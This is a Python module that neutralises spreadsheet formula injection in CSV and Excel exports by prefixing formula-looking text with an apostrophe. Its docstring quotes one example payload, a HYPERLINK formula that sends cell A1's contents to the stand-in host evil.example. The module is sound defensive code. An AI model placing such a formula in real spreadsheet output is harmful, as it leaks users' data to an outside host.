"""Text that reaches a spreadsheet stays text: the one guard against formula injection.

A service request titled ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` must
reach the customer's Excel as those characters, never as a live formula that leaks the
sheet or runs a command on a click. Spreadsheets start a formula at a leading ``=``,
``+``, ``-`` or ``@`` and skip a leading tab or carriage return before looking (the
characters the OWASP CSV-injection guidance lists), so every text value NetCare puts in
a spreadsheet cell goes through here:

* Excel files (``xlsx.py``) write such a value as a string cell with Excel's
  *quote prefix* style, so the reader sees the original text unchanged, it stays text
  when someone edits the cell, and no apostrophe is added to the value itself.
* CSV has no cell types, so :func:`csv_cell` prefixes the value with an apostrophe
  (OWASP's advice); every CSV writer in NetCare writes through :func:`csv_writer`.

Numbers are not text: a negative number stays a number in both formats.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

# A plain signed number ("-2", "+3.5", "-1,000.25", "-1e3") is data a spreadsheet parses as
# that number, not as a formula, so a CSV column of such strings is left as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?([eE][+-]?\d+)?")


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` as a formula (it starts with a trigger)."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """``value`` made safe for a CSV cell: a formula-looking text gets a leading ``'``.

    Non-text values (numbers, dates, ``None``) are returned unchanged; so is a text that
    is just a signed number, which a spreadsheet reads as that number.
    """
    if not isinstance(value, str) or not starts_formula(value):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`csv_cell`."""
    return [csv_cell(value) for value in values]


class _RowWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """A ``csv.writer`` whose rows are neutralised cell by cell (see :func:`csv_cell`)."""

    def __init__(self, writer: _RowWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Any, **options: Any) -> SafeCsvWriter:
    """``csv.writer(handle, **options)`` that never writes a live formula.

    Quoting defaults to ``QUOTE_MINIMAL`` so a separator or quote inside a value is
    escaped, which keeps a payload from starting a cell of its own.
    """
    return SafeCsvWriter(csv.writer(handle, **options))
